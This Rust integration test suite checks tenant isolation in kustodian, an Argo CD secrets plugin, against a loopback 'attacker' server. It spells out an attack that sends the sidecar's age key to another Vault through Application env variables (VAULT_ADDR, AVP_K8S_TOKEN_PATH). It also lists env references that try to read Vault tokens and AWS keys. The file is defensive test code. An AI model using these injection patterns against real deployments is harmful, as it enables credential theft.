//! The tenant boundary in Argo CD: an Application author (plugin env, which reaches the sidecar
//! as `ARGOCD_ENV_*`), a plugin config's `env:` and a KRM ConfigMap may make only the harmless
//! choices kustodian allows; where to connect, how to log in, TLS and identities stay the
//! operator's (the sidecar's own environment). Vault roles and path prefixes per Application
//! go through the operator's tenant mapping, keyed by the project Argo CD itself sets.
//!
//! Driven through the real front doors: the Argo CD CMP commands in plugin/argocd (run the way
//! argocd-cmp-server runs them), `kpt fn eval --exec` with `-- k=v`, the legacy exec plugin under
//! `kubectl kustomize --enable-alpha-plugins`, against real OpenBao; the "attacker" is a
//! loopback HTTP listener that records every byte it receives.

#[path = "support/bao.rs"]
mod bao;
#[path = "support/k8s.rs"]
mod k8s;
#[path = "fixtures/example/support.rs"]
mod support;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use bao::{logins, Bao};
use k8s::ServiceAccount;
use serde_json::json;
use support::*;

const DEADLINE: Duration = Duration::from_secs(60);

fn fixtures() -> PathBuf {
    root().join("tests/fixtures/tenant")
}

/// A loopback HTTP server posing as Vault: it records every byte it receives and answers every
/// request with a login response, so a client that trusts it would go on.
struct Attacker {
    url: String,
    received: Arc<Mutex<Vec<u8>>>,
}

impl Attacker {
    fn start() -> Attacker {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let received = Arc::new(Mutex::new(Vec::new()));
        let log = received.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut s) = stream else { continue };
                s.set_read_timeout(Some(Duration::from_millis(300))).ok();
                let mut buf = [0u8; 4096];
                while let Ok(n) = s.read(&mut buf) {
                    if n == 0 {
                        break;
                    }
                    log.lock().unwrap().extend_from_slice(&buf[..n]);
                }
                let body = r#"{"auth":{"client_token":"attacker-token","lease_duration":3600,"renewable":false}}"#;
                let _ = write!(
                    s,
                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                );
            }
        });
        Attacker { url, received }
    }

    #[track_caller]
    fn assert_nothing_received(&self, how: &str) {
        let got = self.received.lock().unwrap();
        assert!(
            got.is_empty(),
            "{how}: the attacker received {} bytes:\n{}",
            got.len(),
            String::from_utf8_lossy(&got)
        );
    }
}

/// The sidecar's age key, in a file of its own (the target of the exfiltration).
fn age_key_file(dir: &Path) -> (PathBuf, String) {
    let text = std::fs::read_to_string(root().join("tests/fixtures/krm/keys.txt")).unwrap();
    let p = dir.join("age/keys.txt");
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, &text).unwrap();
    let secret = text
        .lines()
        .find(|l| l.starts_with("AGE-SECRET-KEY-"))
        .unwrap()
        .to_string();
    (p, secret)
}

/// A repository copy holding the fixture folder `name` at `apps/<name>`, and an Application of
/// `project` for it.
fn app_repo(name: &str, project: &str) -> (tempfile::TempDir, AppInput) {
    let repo = tempfile::tempdir().unwrap();
    copy_dir(&fixtures().join(name), &repo.path().join("apps").join(name));
    let app = AppInput {
        name: format!("{project}-{name}"),
        namespace: project.to_string(),
        source_path: format!("apps/{name}"),
        ..AppInput::default()
    };
    (repo, app)
}

fn app_env(app: &mut AppInput, vars: &[(&str, &str)]) {
    app.env
        .extend(vars.iter().map(|(k, v)| (k.to_string(), v.to_string())));
}

/// Runs the `kustodian` CMP on `app`; `operator` is the sidecar's own environment (plus the
/// build environment Argo CD sets, such as ARGOCD_APP_PROJECT_NAME).
fn cmp(repo: &Path, app: &AppInput, operator: &[(&str, &str)]) -> (Output, String, String) {
    let bins = bin_dir();
    let r = run_cmp(&plugin("kustodian"), repo, app, bins.path(), operator);
    let (stdout, stderr) = (r.stdout(), r.stderr());
    (r.output, stdout, stderr)
}

/// The attack of issue 10: the Application points Vault at the attacker, switches the login to
/// Kubernetes and names the age key file as the service-account token.
fn key_exfiltration_env(attacker: &Attacker, key: &Path) -> Vec<(String, String)> {
    [
        ("VAULT_ADDR", attacker.url.as_str()),
        ("AVP_AUTH_TYPE", "k8s"),
        ("AVP_K8S_ROLE", "argocd"),
        ("AVP_K8S_TOKEN_PATH", key.to_str().unwrap()),
    ]
    .iter()
    .map(|(k, v)| (k.to_string(), v.to_string()))
    .collect()
}

#[track_caller]
fn assert_names_only(stderr: &str, names: &[&str], values: &[&str]) {
    for n in names {
        assert!(
            stderr.contains(&format!("{n} was ignored")),
            "no warning about {n}:\n{stderr}"
        );
    }
    for v in values {
        assert!(
            !stderr.contains(v),
            "stderr shows the value {v:?}:\n{stderr}"
        );
    }
}

#[test]
fn application_env_cannot_send_the_age_key_to_another_vault() {
    let attacker = Attacker::start();
    let home = tempfile::tempdir().unwrap();
    let (key, secret) = age_key_file(home.path());
    let (repo, mut app) = app_repo("vault-ref-app", "team-a");
    app.env = key_exfiltration_env(&attacker, &key);
    let key_s = key.display().to_string();
    let (out, stdout, stderr) = cmp(
        repo.path(),
        &app,
        &[
            ("SOPS_AGE_KEY_FILE", &key_s),
            ("ARGOCD_APP_PROJECT_NAME", "team-a"),
        ],
    );
    attacker.assert_nothing_received("ARGOCD_ENV_VAULT_ADDR + AVP_K8S_TOKEN_PATH");
    assert!(
        !out.status.success(),
        "the render cannot succeed:\n{stdout}"
    );
    assert!(stdout.is_empty(), "{stdout}");
    assert!(!stderr.contains(&secret) && !stderr.contains("AGE-SECRET-KEY"));
    assert_names_only(
        &stderr,
        &["VAULT_ADDR", "AVP_AUTH_TYPE", "AVP_K8S_TOKEN_PATH"],
        &[&attacker.url, &key_s],
    );
    // The role it asked for needs the operator's mapping; there is none.
    assert!(stderr.contains("KUSTODIAN_TENANTS_FILE"), "{stderr}");
}

#[test]
fn krm_configmap_keys_cannot_send_the_age_key_to_another_vault() {
    require("kpt");
    let attacker = Attacker::start();
    let work = tempfile::tempdir().unwrap();
    let (key, secret) = age_key_file(work.path());
    copy_dir(
        &fixtures().join("krm-configmap-attack"),
        &work.path().join("input"),
    );
    let bins = bin_dir();
    let krm = bins.path().join("kustodian-krm").display().to_string();
    let mut args: Vec<String> = ["fn", "eval", "--exec", &krm, "input", "-o", "stdout", "--"]
        .iter()
        .map(|s| s.to_string())
        .collect();
    args.extend(
        key_exfiltration_env(&attacker, &key)
            .into_iter()
            .map(|(k, v)| format!("{k}={v}")),
    );
    let mut c = Command::new("kpt");
    clean_env(&mut c)
        .current_dir(work.path())
        .env("HOME", work.path())
        .env("SOPS_AGE_KEY_FILE", &key)
        .env("PATH", path_with(bins.path()))
        .args(&args);
    let out = run_with_deadline(&mut c, None, DEADLINE);
    let stderr = String::from_utf8_lossy(&out.stderr).to_string();
    let stdout = String::from_utf8_lossy(&out.stdout).to_string();
    attacker.assert_nothing_received("kpt fn eval -- VAULT_ADDR=...");
    assert!(!out.status.success(), "{stdout}");
    assert!(!stderr.contains(&secret) && !stdout.contains(&secret));
    assert_names_only(
        &stderr,
        &["VAULT_ADDR", "AVP_AUTH_TYPE", "AVP_K8S_TOKEN_PATH"],
        &[&attacker.url, &key.display().to_string()],
    );
}

#[test]
fn legacy_plugin_env_cannot_send_the_age_key_to_another_vault() {
    require("kubectl");
    let attacker = Attacker::start();
    let work = tempfile::tempdir().unwrap();
    let (key, secret) = age_key_file(work.path());
    let case = work.path().join("app");
    copy_dir(&fixtures().join("legacy-env-attack"), &case);
    let resolver = std::fs::read_to_string(case.join("resolver.yaml.in"))
        .unwrap()
        .replace("@ATTACKER@", &attacker.url)
        .replace("@KEY@", key.to_str().unwrap());
    std::fs::remove_file(case.join("resolver.yaml.in")).unwrap();
    std::fs::write(case.join("resolver.yaml"), resolver).unwrap();
    let xdg = installed_plugin_home();
    let mut c = Command::new("kubectl");
    clean_env(&mut c)
        .env("HOME", work.path())
        .env("XDG_CONFIG_HOME", xdg.path())
        .env("SOPS_AGE_KEY_FILE", &key)
        .args(["kustomize", "--enable-alpha-plugins"])
        .arg(&case);
    let out = run_with_deadline(&mut c, None, DEADLINE);
    let stderr = String::from_utf8_lossy(&out.stderr).to_string();
    attacker.assert_nothing_received("Resolver env: VAULT_ADDR");
    assert!(!out.status.success());
    assert!(out.stdout.is_empty());
    assert!(!stderr.contains(&secret));
    assert_names_only(
        &stderr,
        &["VAULT_ADDR", "AVP_AUTH_TYPE", "AVP_K8S_TOKEN_PATH"],
        &[&attacker.url, &key.display().to_string()],
    );
}

#[test]
fn operator_bao_addr_beats_application_vault_addr() {
    let bao = Bao::start();
    bao.put_kv2(
        "secret",
        "app",
        json!({"password": "canary-tenant-operator-pw"}),
    );
    bao.policy(
        "app",
        r#"path "secret/data/app" { capabilities = ["read"] }"#,
    );
    let token = bao.token(&["app"], "1h");
    let attacker = Attacker::start();
    let (repo, mut app) = app_repo("vault-ref-app", "team-a");
    app_env(&mut app, &[("VAULT_ADDR", &attacker.url)]);
    let (out, stdout, stderr) = cmp(
        repo.path(),
        &app,
        &[("BAO_ADDR", &bao.addr), ("VAULT_TOKEN", &token)],
    );
    attacker.assert_nothing_received("ARGOCD_ENV_VAULT_ADDR over BAO_ADDR");
    assert!(out.status.success(), "{stderr}");
    assert!(stdout.contains("canary-tenant-operator-pw"), "{stdout}");
    assert!(!stderr.contains(&token), "{stderr}");
    assert_names_only(&stderr, &["VAULT_ADDR"], &[&attacker.url]);
}

#[test]
fn application_cannot_turn_off_certificate_checks() {
    let bao = Bao::start_tls();
    let put = bao.cli(&[
        "kv",
        "put",
        "-mount=secret",
        "app",
        "password=canary-tenant-tls-pw",
    ]);
    assert!(put.0, "{}", put.1);
    let token = bao::ROOT_TOKEN;
    let (repo, mut app) = app_repo("vault-ref-app", "team-a");
    app_env(
        &mut app,
        &[("VAULT_SKIP_VERIFY", "true"), ("BAO_SKIP_VERIFY", "true")],
    );
    let operator = [("VAULT_ADDR", bao.addr.as_str()), ("VAULT_TOKEN", token)];
    let (out, stdout, stderr) = cmp(repo.path(), &app, &operator);
    assert!(
        !out.status.success(),
        "certificate checks were skipped:\n{stdout}"
    );
    assert!(stdout.is_empty());
    assert!(
        !stderr.contains("TLS certificate of"),
        "the skip-verify warning shows the setting took effect:\n{stderr}"
    );
    assert_names_only(&stderr, &["VAULT_SKIP_VERIFY", "BAO_SKIP_VERIFY"], &[token]);
    // The operator's CA makes the same render work: the failure above is the certificate.
    let ca = bao.ca.as_ref().unwrap().display().to_string();
    let mut with_ca = operator.to_vec();
    with_ca.push(("VAULT_CACERT", &ca));
    let (out, stdout, stderr) = cmp(repo.path(), &app, &with_ca);
    assert!(out.status.success(), "{stderr}");
    assert!(stdout.contains("canary-tenant-tls-pw"));
}

#[test]
fn application_cannot_choose_the_age_identity() {
    let home = tempfile::tempdir().unwrap();
    let (key, secret) = age_key_file(home.path());
    let key_s = key.display().to_string();
    let config = home.path().display().to_string();
    let repo = tempfile::tempdir().unwrap();
    copy_dir(
        &root().join("tests/fixtures/cmp/plain-app"),
        &repo.path().join("apps/plain-app"),
    );
    let mut app = AppInput {
        name: "plain-app".into(),
        namespace: "team-a".into(),
        source_path: "apps/plain-app".into(),
        ..AppInput::default()
    };
    app_env(
        &mut app,
        &[
            ("SOPS_AGE_KEY_FILE", &key_s),
            ("XDG_CONFIG_HOME", &config),
            ("HOME", &config),
        ],
    );
    let (out, stdout, stderr) = cmp(repo.path(), &app, &[]);
    assert!(
        !out.status.success(),
        "the Application's key file was used:\n{stdout}"
    );
    assert!(stdout.is_empty());
    assert!(!stderr.contains(&secret));
    assert_names_only(
        &stderr,
        &["SOPS_AGE_KEY_FILE", "XDG_CONFIG_HOME", "HOME"],
        &[&key_s],
    );
    // The same key in the sidecar's environment works.
    app.env.clear();
    let (out, _, stderr) = cmp(repo.path(), &app, &[("SOPS_AGE_KEY_FILE", &key_s)]);
    assert!(out.status.success(), "{stderr}");
}

/// Kubernetes auth at `auth/kubernetes` checked by the TokenReview stand-in, and roles
/// `team-a` / `team-b` bound to the repo server's service account, each reading its own
/// folder of `secret/`.
fn two_team_vault(bao: &Bao, sa: &ServiceAccount) -> k8s::TokenReviewer {
    let reviewer = k8s::serve(vec![sa.clone()]);
    bao.enable_auth("kubernetes", "kubernetes");
    let ca =
        std::fs::read_to_string(root().join("tests/fixtures/vault/kubernetes-ca.pem")).unwrap();
    bao.api(
        "POST",
        "auth/kubernetes/config",
        json!({"kubernetes_host": reviewer.url, "disable_local_ca_jwt": true, "kubernetes_ca_cert": ca}),
    );
    for team in ["team-a", "team-b"] {
        bao.policy(
            team,
            &format!(r#"path "secret/data/{team}/*" {{ capabilities = ["read"] }}"#),
        );
        bao.api(
            "POST",
            &format!("auth/kubernetes/role/{team}"),
            json!({
                "bound_service_account_names": [sa.name],
                "bound_service_account_namespaces": [sa.namespace],
                "token_policies": [team],
                "token_ttl": "1h",
            }),
        );
        bao.put_kv2(
            "secret",
            &format!("{team}/app"),
            json!({ "password": format!("canary-{team}-password") }),
        );
    }
    reviewer
}

#[test]
fn mapped_role_works_for_its_project_and_is_refused_for_another() {
    let bao = Bao::start();
    let sa = ServiceAccount::new(
        "argocd",
        "argocd-repo-server",
        "9a1c1f7e-0000-4000-8000-00000000a11a",
    );
    let _reviewer = two_team_vault(&bao, &sa);
    let home = tempfile::tempdir().unwrap();
    let jwt = home.path().join("sa-token");
    std::fs::write(&jwt, sa.jwt()).unwrap();
    bao.canary(sa.jwt());
    let jwt_s = jwt.display().to_string();
    let tenants = fixtures().join("tenants.yaml").display().to_string();
    let operator = |project: &'static str| {
        vec![
            ("VAULT_ADDR", bao.addr.clone()),
            ("AVP_TYPE", "vault".to_string()),
            ("AVP_AUTH_TYPE", "k8s".to_string()),
            ("AVP_K8S_TOKEN_PATH", jwt_s.clone()),
            ("KUSTODIAN_TENANTS_FILE", tenants.clone()),
            ("KUSTODIAN_VAULT_TOKEN_CACHE", "off".to_string()),
            ("ARGOCD_APP_PROJECT_NAME", project.to_string()),
        ]
    };
    let run = |project: &'static str, env: &[(&str, &str)]| {
        let (repo, mut app) = app_repo("placeholder-app", project);
        app_env(&mut app, env);
        let op = operator(project);
        let op: Vec<(&str, &str)> = op.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let mark = bao.mark();
        let (out, stdout, stderr) = cmp(repo.path(), &app, &op);
        for c in bao.canaries() {
            assert!(!stderr.contains(&c), "stderr leaks {c:?}:\n{stderr}");
        }
        (out.status.success(), stdout, stderr, bao.audit_since(mark))
    };

    // team-a asks for its role and prefix: allowed, and the prefix applies.
    let (ok, stdout, stderr, _) = run(
        "team-a",
        &[
            ("AVP_K8S_ROLE", "team-a"),
            ("AVP_PATH_PREFIX", "secret/data/team-a"),
        ],
    );
    assert!(ok, "{stderr}");
    assert!(stdout.contains("canary-team-a-password"), "{stdout}");

    // team-b gets its default role and prefix without asking.
    let (ok, stdout, stderr, _) = run("team-b", &[]);
    assert!(ok, "{stderr}");
    assert!(stdout.contains("canary-team-b-password"), "{stdout}");

    // team-b asks for team-a's role: refused before any login, no fallback.
    let (ok, stdout, stderr, audit) = run("team-b", &[("AVP_K8S_ROLE", "team-a")]);
    assert!(!ok && stdout.is_empty(), "{stdout}");
    assert!(
        stderr.contains("role \"team-a\" is not allowed for project \"team-b\""),
        "{stderr}"
    );
    assert_eq!(
        logins(&audit),
        0,
        "a refused role must not log in: {audit:?}"
    );

    // ... and cannot forge its project through the plugin env.
    let (ok, _, stderr, audit) = run(
        "team-b",
        &[
            ("AVP_K8S_ROLE", "team-a"),
            ("ARGOCD_APP_PROJECT_NAME", "team-a"),
        ],
    );
    assert!(!ok, "{stderr}");
    assert_names_only(&stderr, &["ARGOCD_APP_PROJECT_NAME"], &[]);
    assert_eq!(logins(&audit), 0);

    // A project without an entry may not ask for a role at all.
    let (ok, _, stderr, audit) = run("team-c", &[("AVP_K8S_ROLE", "team-a")]);
    assert!(!ok);
    assert!(
        stderr.contains("has no entry in the tenant mapping"),
        "{stderr}"
    );
    assert_eq!(logins(&audit), 0);
}

#[test]
fn env_store_reads_only_kustodian_secret_variables_whatever_the_spelling() {
    let secret = |r: &str| {
        format!("apiVersion: v1\nkind: Secret\nmetadata:\n  name: s\nstringData:\n  v: '{r}'\n")
    };
    let render = |reference: &str| {
        let mut c = Command::new(bin());
        clean_env(&mut c)
            .env("VAULT_TOKEN", "canary-env-vault-token")
            .env("SOPS_AGE_KEY", "canary-env-age-key")
            .env("AWS_SECRET_ACCESS_KEY", "canary-env-aws")
            .env("ARGOCD_ENV_VAULT_TOKEN", "canary-env-app-token")
            .env("KUSTODIAN_SECRET_DB", "plain-db-value")
            .env("ARGOCD_ENV_KUSTODIAN_SECRET_APP", "plain-app-value")
            .args(["render", "-"]);
        run_with_deadline(&mut c, Some(secret(reference).as_bytes()), DEADLINE)
    };
    for (r, want) in [
        ("ref+env://DB", "plain-db-value"),
        ("ref+envsubst://$DB", "plain-db-value"),
        ("ref+env://APP", "plain-app-value"),
    ] {
        let out = render(r);
        assert!(
            out.status.success(),
            "{r}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(String::from_utf8_lossy(&out.stdout).contains(want), "{r}");
    }
    for r in [
        "ref+env://VAULT_TOKEN",
        "ref+envsubst://$VAULT_TOKEN",
        "ref+envsubst://${VAULT_TOKEN}",
        "ref+env://vault_token",
        "ref+env://ARGOCD_ENV_VAULT_TOKEN",
        "ref+env://SOPS_AGE_KEY",
        "ref+env://AWS_SECRET_ACCESS_KEY",
        "ref+envsubst://${VAULT_TOKEN:-x}",
    ] {
        let out = render(r);
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(!out.status.success(), "{r} resolved:\n{all}");
        assert!(!all.contains("canary-env"), "{r} leaked a value:\n{all}");
    }
}
